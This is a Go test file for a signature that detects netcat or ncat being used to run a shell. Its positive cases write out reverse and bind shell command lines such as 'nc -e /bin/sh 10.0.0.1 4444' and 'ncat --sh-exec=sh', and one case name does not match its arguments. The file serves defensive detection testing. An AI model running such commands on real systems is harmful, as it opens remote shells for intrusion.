package signatures

import (
	"testing"

	pb "github.com/tracee-go/tracee/proto/traceepb"
)

func TestNetcatRemoteExec(t *testing.T) {
	runCases(t, func() sdkSig { return NewNetcatRemoteExec() }, []sigCase{
		{name: "nc -e", events: []*pb.Event{exec("/bin/nc.traditional", "nc", "-e", "/bin/sh", "10.0.0.1", "4444")},
			want: []wantFinding{{0, map[string]any{"option": "-e", "argv": []string{"nc", "-e", "/bin/sh", "10.0.0.1", "4444"}}}}},
		{name: "cluster -lvpe after port", events: []*pb.Event{exec("/usr/bin/ncat", "ncat", "-lvnc", "sh")},
			want: []wantFinding{{0, map[string]any{"option": "-c", "argv": []string{"ncat", "-lvnc", "sh"}}}}},
		{name: "ncat --sh-exec=", events: []*pb.Event{exec("/usr/bin/ncat", "ncat", "--sh-exec=sh", "127.0.0.1", "1")},
			want: []wantFinding{{0, map[string]any{"option": "--sh-exec", "argv": []string{"ncat", "--sh-exec=sh", "127.0.0.1", "1"}}}}},
		{name: "plain client", events: []*pb.Event{exec("/bin/nc", "nc", "-zv", "127.0.0.1", "22")}},
		{name: "port value containing e is not an option", events: []*pb.Event{exec("/bin/nc", "nc", "-pe", "host")}},
		{name: "after --", events: []*pb.Event{exec("/bin/nc", "nc", "--", "-e")}},
		{name: "other program with -e", events: []*pb.Event{exec("/usr/bin/perl", "perl", "-e", "1")}},
	})
}
